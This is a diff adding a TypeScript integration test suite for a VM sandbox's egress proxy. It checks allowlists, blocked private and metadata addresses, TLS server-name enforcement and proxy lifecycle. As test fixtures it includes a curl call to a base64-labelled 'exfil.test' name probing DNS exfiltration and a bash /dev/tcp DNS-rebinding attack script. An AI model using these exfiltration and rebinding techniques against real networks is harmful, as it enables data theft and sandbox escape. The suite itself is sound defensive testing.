@@ -1,0 +1,341 @@
+import { setTimeout as delay } from 'node:timers/promises';
+import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
+import { type App, createApp } from '../../src/app';
+import { silentLog } from '../../src/core/log';
+import type { MachineInfo } from '../../src/machine/hypervisor';
+import { containerName, proxyName } from '../../src/machine/kvm/jail';
+import type { NetworkRow } from '../../src/network/networkService';
+import { clientHello } from './fixtures/clientHello';
+import { EgressWorld } from './fixtures/egressWorld';
+import { engine, TestMachine } from './fixtures/machine';
+
+const DOCKERFILE = `FROM debian:trixie-slim
+RUN apt-get update && apt-get install -y --no-install-recommends curl openssl && rm -rf /var/lib/apt/lists/*
+`;
+const SETTINGS = { build: { dockerfile: 'Dockerfile' }, memory: '512mb', disk: '2gb' };
+
+/** Names of the test's own name server that lead where no machine may go. None of these addresses is in the test's network. */
+const WALLED: Record<string, string[]> = {
+  'ten.lan.test': ['10.20.30.40'],
+  'home.lan.test': ['192.168.1.1'],
+  'cgn.lan.test': ['100.64.0.1'],
+  'loop.lan.test': ['127.0.0.1'],
+  'zero.lan.test': ['0.0.0.0'],
+  'metadata.lan.test': ['169.254.169.254'],
+  'multicast.lan.test': ['224.0.0.1'],
+  'reserved.lan.test': ['240.0.0.1'],
+};
+
+let world: EgressWorld;
+let machine: TestMachine;
+let app: App;
+
+beforeAll(async () => {
+  world = await EgressWorld.make(1, ['allowed.test', 'other.test', 'a.below.test'], ({ web, host }) => ({
+    ...WALLED,
+    // In a network without IPv6 it has no address at all.
+    'mapped.lan.test': ['::ffff:10.20.30.40'],
+    'looked-up.test': [web],
+    'host.lan.test': [host],
+    'both.lan.test': [web, host],
+    'flip.test': { first: [web], then: [host], after: 2 },
+  }));
+  machine = await TestMachine.open(
+    'egress',
+    { '.bulkhead.json': JSON.stringify(SETTINGS), Dockerfile: DOCKERFILE },
+    world.env,
+  );
+  Object.assign(process.env, world.env);
+  app = createApp({ log: silentLog, proxyCommand: [], dataDirectory: machine.cli.dataDirectory });
+});
+
+afterAll(async () => {
+  app?.dispose();
+  for (const name of Object.keys(world?.env ?? {})) {
+    delete process.env[name];
+  }
+  await machine?.dispose();
+  await world?.dispose();
+});
+
+/** The status that curl in the guest gets; `000` if it gets none. Of a CONNECT that is refused, the proxy's own. */
+async function status(url: string, ...flags: string[]): Promise<string> {
+  const format = '%{http_code} %{http_connect}';
+  const argv = ['curl', '-sk', '--max-time', '20', '-o', '/dev/null', '-w', format, ...flags, url];
+  const [code = '', connect = ''] = (await machine.exec(argv)).stdout.trim().split(' ');
+  return code === '000' && connect !== '000' && connect !== '200' ? connect : code;
+}
+
+async function rowOf(host: string, port = 80): Promise<NetworkRow | undefined> {
+  return (await app.networkRows(machine.id)).find((row) => row.host === host && row.port === port);
+}
+
+async function allow(...hosts: string[]): Promise<void> {
+  await machine.bulkhead('net', ...hosts.flatMap((host) => ['--allow', host]));
+}
+
+async function running(name: string): Promise<boolean> {
+  return (await (await engine()).docker.getContainer(name).inspect()).State.Running;
+}
+
+/** A download in the guest that goes on for ever; `size` is what it has got so far. */
+async function download(name: string, url: string) {
+  await machine.sh(`curl -skN ${url} > /tmp/${name} 2> /dev/null & echo $! > /tmp/${name}.pid`);
+  const size = async () => Number(await machine.sh(`stat -c %s /tmp/${name}`));
+  await vi.waitUntil(async () => (await size()) > 0, { timeout: 20_000, interval: 200 });
+  return { size, ended: () => machine.sh(`kill -0 $(cat /tmp/${name}.pid) 2> /dev/null && echo no || echo yes`) };
+}
+
+describe('by default', () => {
+  test('a machine has an allowlist with nothing on it', async () => {
+    const machines = (await machine.cli.ok(['ls', '--json'])).lines<MachineInfo>();
+    expect(machines.find(({ id }) => id === machine.id)?.networkMode).toBe('allowlist');
+    expect((await machine.bulkhead('net', '--json')).json()).toEqual({
+      id: machine.id,
+      network: 'allowlist',
+      rules: [],
+    });
+    expect(await status('http://allowed.test/')).toBe('403');
+    expect(await status('https://allowed.test/')).toBe('403');
+    expect(await rowOf('allowed.test')).toMatchObject({ allowed: false, reason: 'host', deniedCount: 1 });
+  });
+
+  test('neither VMM nor proxy has more than it needs', async () => {
+    const { docker } = await engine();
+    const vmm = await docker.getContainer(containerName(machine.id)).inspect();
+    expect(Object.keys(vmm.NetworkSettings.Networks)).toEqual(['none']);
+    const proxy = await docker.getContainer(proxyName(machine.id)).inspect();
+    expect(proxy.Config.User).toBe('1234:1234');
+    expect(proxy.HostConfig).toMatchObject({
+      CapDrop: ['ALL'],
+      SecurityOpt: ['no-new-privileges'],
+      ReadonlyRootfs: true,
+      Memory: 96 * 2 ** 20,
+    });
+    expect(proxy.HostConfig.CapAdd ?? []).toEqual([]);
+    expect(proxy.HostConfig.Privileged).toBe(false);
+    expect(Object.keys(proxy.NetworkSettings.Networks)).toEqual([world.name]);
+    expect(proxy.NetworkSettings.Ports).toEqual({});
+    expect(proxy.Mounts.map(({ Destination }) => Destination)).toEqual(['/proxy']);
+    const walls = await docker.listContainers({ all: true, filters: { label: ['bulkhead.worker=wall'] } });
+    expect(walls).toEqual([]);
+  });
+
+  test('the proxy’s variables are there, and an image’s own win', async () => {
+    expect(await machine.sh('echo $HTTP_PROXY $https_proxy $no_proxy')).toBe(
+      'http://10.0.2.2:3128 http://10.0.2.2:3128 localhost,127.0.0.1,::1',
+    );
+    expect(await machine.sh('apt-config dump Acquire::http::Proxy')).toContain('http://10.0.2.2:3128');
+  });
+});
+
+describe('allowed hosts', () => {
+  beforeAll(() => allow('allowed.test', '*.below.test', 'looked-up.test', 'allowed.test:8080'));
+
+  test('are reached, over HTTP, TLS and a port of their own', async () => {
+    expect(await status('http://allowed.test/')).toBe('200');
+    expect(await status('https://allowed.test/')).toBe('200');
+    expect(await status('http://a.below.test/')).toBe('200');
+    expect(await status('http://allowed.test:8080/', '--proxytunnel')).toBe('200');
+    expect(await rowOf('allowed.test', 443)).toMatchObject({ allowed: true });
+  });
+
+  test('no other is, nor another port', async () => {
+    for (const url of ['http://other.test/', 'https://other.test/', 'http://below.test/', 'http://allowed.test:81/']) {
+      expect(await status(url), url).toBe('403');
+    }
+    expect(await status(`http://${world.address}/`)).toBe('403');
+    // Without the proxy there is no way at all.
+    expect(await status(`http://${world.address}/`, '--noproxy', '*')).toBe('000');
+  });
+
+  test('a name that no rule allows is never looked up: its labels could carry data out', async () => {
+    expect(await status('http://looked-up.test/')).toBe('200');
+    expect(await status('http://c2VjcmV0.exfil.test/')).toBe('403');
+    expect(await status('https://c2VjcmV0.exfil.test/')).toBe('403');
+    const lookups = await world.lookups();
+    expect(lookups).toContain('looked-up.test');
+    expect(lookups.filter((name) => name.includes('exfil'))).toEqual([]);
+  });
+
+  test('a TLS handshake for another name, or for none, is ended', async () => {
+    const handshake = async (...flags: string[]) => {
+      const proxy = ['-proxy', '10.0.2.2:3128', '-connect', 'allowed.test:443'];
+      const { stdout } = await machine.exec(['openssl', 's_client', ...proxy, ...flags], [], { input: '' });
+      return /^subject=/m.test(stdout);
+    };
+    expect(await handshake('-servername', 'allowed.test')).toBe(true);
+    expect(await handshake('-servername', 'other.test')).toBe(false);
+    expect(await handshake('-noservername')).toBe(false);
+    await vi.waitFor(async () =>
+      expect(await rowOf('allowed.test', 443)).toMatchObject({ allowed: false, reason: 'server-name' }),
+    );
+  });
+});
+
+describe('addresses', () => {
+  beforeAll(() => allow('*.lan.test', 'flip.test', 'gone.test'));
+
+  test.each([...Object.keys(WALLED), 'host.lan.test', 'both.lan.test'])('%s is not reached', async (name) => {
+    expect(await status(`http://${name}/`)).toBe('403');
+    expect(await status(`https://${name}/`)).toBe('403');
+    expect(await rowOf(name)).toMatchObject({ allowed: false, reason: 'address' });
+    expect(world.hostGreeted).toEqual([]);
+  });
+
+  test('the kernel refuses them too, whatever squid does', async () => {
+    const proxy = (await engine()).docker.getContainer(proxyName(machine.id));
+    const knock = async (user: string) => {
+      const command = `echo > /dev/tcp/${world.hostAddress}/80`;
+      const exec = await proxy.exec({ Cmd: ['bash', '-c', command], User: user, AttachStdout: true });
+      (await exec.start({})).resume();
+      return vi.waitFor(async () => {
+        const { ExitCode: code } = await exec.inspect();
+        expect(code).not.toBeNull();
+        return code;
+      });
+    };
+    expect(await knock('1234:1234')).not.toBe(0);
+    expect(world.hostGreeted).toEqual([]);
+    // Somebody does listen there.
+    expect(await knock('0:0')).toBe(0);
+    await vi.waitUntil(() => world.hostGreeted.length === 1);
+    world.hostGreeted.length = 0;
+  });
+
+  test('a name without an address is told as that', async () => {
+    expect(await status('http://gone.test/')).toBe('503');
+    expect(await rowOf('gone.test')).toMatchObject({ allowed: false, reason: 'unresolved' });
+    expect(await status('http://mapped.lan.test/')).not.toBe('200');
+  });
+
+  test('a name that leads elsewhere after it was checked (DNS rebinding) is stopped', async () => {
+    const hello = (await clientHello('flip.test')).toString('hex');
+    // Asks for the tunnel, and sends its handshake only when the name server answers with this host's own address.
+    const attack = `
+      exec 3<>/dev/tcp/10.0.2.2/3128
+      printf 'CONNECT flip.test:443 HTTP/1.1\\r\\n\\r\\n' >&3
+      read -t 10 -r line <&3; echo "$line"
+      sleep 4
+      printf '%b' "$(echo ${hello} | sed 's/../\\\\x&/g')" >&3
+      timeout 10 cat <&3 | wc -c`;
+    const { stdout } = await machine.exec(['bash', '-c', attack]);
+    expect(stdout).toContain('200');
+    const lookups = (await world.lookups()).filter((name) => name === 'flip.test');
+    expect(lookups.length).toBeGreaterThan(1);
+    expect(world.hostGreeted).toEqual([]);
+    await vi.waitFor(async () => expect(await rowOf('flip.test', 443)).toMatchObject({ allowed: false }));
+  });
+});
+
+describe('a running machine', () => {
+  test('`none` stops a download, `allowlist` lets the next one flow', async () => {
+    const running = await download('mode', 'http://allowed.test/endless');
+    const tunnel = await download('tunnel', 'https://allowed.test/endless');
+    const clock = await guestClock();
+    const before = Date.now();
+    await app.setNetwork(machine.id, 'none');
+    const switched = Date.now();
+    const [size, tunnelled] = [await running.size(), await tunnel.size()];
+    await delay(1500);
+    expect([await running.size(), await tunnel.size()]).toEqual([size, tunnelled]);
+    console.log(
+      `none: the switch took ${switched - before} ms, the last byte came ${await lastWrite('mode', clock, before)} ms after it was asked for`,
+    );
+    expect(await status('http://allowed.test/')).not.toBe('200');
+    const again = Date.now();
+    await app.setNetwork(machine.id, 'allowlist');
+    const open = Date.now();
+    expect(await status('http://allowed.test/')).toBe('200');
+    console.log(`allowlist: the switch took ${open - again} ms`);
+  });
+
+  test('a host that is taken back loses its connections, and only it does', async () => {
+    await allow('other.test');
+    const kept = await download('kept', 'https://other.test/endless');
+    const lost = await download('lost', 'https://allowed.test/endless');
+    const clock = await guestClock();
+    const before = Date.now();
+    await app.revokeHost(machine.id, 'allowed.test');
+    await vi.waitUntil(async () => (await lost.ended()) === 'yes', { timeout: 10_000 });
+    console.log(`revoke: the last byte came ${await lastWrite('lost', clock, before)} ms after it was asked for`);
+    const size = await kept.size();
+    await vi.waitUntil(async () => (await kept.size()) > size, { timeout: 10_000 });
+    expect(await status('https://allowed.test/')).toBe('403');
+    await app.allowHost(machine.id, 'allowed.test', 'once');
+    expect(await status('https://allowed.test/')).toBe('200');
+    const more = await kept.size();
+    await vi.waitUntil(async () => (await kept.size()) > more, { timeout: 10_000 });
+    await machine.sh('kill $(cat /tmp/kept.pid)');
+  });
+
+  test('each request is told as it comes, and rows count them', async () => {
+    const follower = machine.cli.start(['net', machine.id, '--log', '--follow', '--json']);
+    let said = '';
+    follower.stdout.on('data', (chunk: Buffer) => {
+      said += chunk.toString();
+    });
+    await vi.waitUntil(
+      async () => {
+        await status('http://unheard-of.test/');
+        return said.includes('unheard-of.test');
+      },
+      { timeout: 30_000 },
+    );
+    follower.kill('SIGINT');
+    expect((await follower.finished).code).toBe(130);
+    expect(JSON.parse(said.split('\n')[0] ?? '')).toMatchObject({ host: 'unheard-of.test', reason: 'host' });
+    const row = await rowOf('unheard-of.test');
+    expect(row?.count).toBe(row?.deniedCount);
+  });
+
+  test('`full` lets everything through, the proxy too', async () => {
+    await machine.bulkhead('net', 'full');
+    expect(await status('http://never-allowed.test/')).not.toBe('403');
+    expect(await status('http://other.test/')).toBe('200');
+    await machine.bulkhead('net', 'allowlist');
+    expect(await status('http://never-allowed.test/')).toBe('403');
+    expect(await status('http://host.lan.test/')).toBe('403');
+  });
+});
+
+describe('a proxy', () => {
+  test('that was killed is a shut network until it is asked for again', async () => {
+    await (await engine()).docker.getContainer(proxyName(machine.id)).kill();
+    expect(await status('http://other.test/')).toBe('000');
+    await machine.bulkhead('net', 'allowlist');
+    expect(await status('http://other.test/')).toBe('200');
+  });
+
+  test('sleeps and wakes with its machine', async () => {
+    await machine.bulkhead('suspend');
+    expect(await running(proxyName(machine.id))).toBe(false);
+    expect((await app.networkRows(machine.id)).length).toBeGreaterThan(0);
+    await machine.bulkhead('resume');
+    expect(await status('http://other.test/')).toBe('200');
+    expect(await status('http://host.lan.test/')).toBe('403');
+  });
+
+  test('ends with a VMM that was killed, and goes with its machine', async () => {
+    const { docker } = await engine();
+    await docker.getContainer(containerName(machine.id)).kill();
+    await vi.waitUntil(async () => !(await running(proxyName(machine.id))), { timeout: 15_000, interval: 200 });
+    await machine.bulkhead('rm', '--force');
+    const left = await docker.listContainers({ all: true, filters: { name: [machine.id] } });
+    expect(left).toEqual([]);
+    const { Volumes: volumes } = await docker.listVolumes({ filters: { name: [machine.id] } });
+    expect(volumes).toEqual([]);
+  });
+});
+
+/** Milliseconds that the guest's clock is ahead of this host's, as well as a round trip tells. */
+async function guestClock(): Promise<number> {
+  const before = Date.now();
+  const guest = Number(await machine.sh('date +%s%3N'));
+  return guest - (before + Date.now()) / 2;
+}
+
+async function lastWrite(name: string, clock: number, since: number): Promise<number> {
+  const at = Number(await machine.sh(`date -r /tmp/${name} +%s%3N`));
+  return Math.round(at - clock - since);
+}
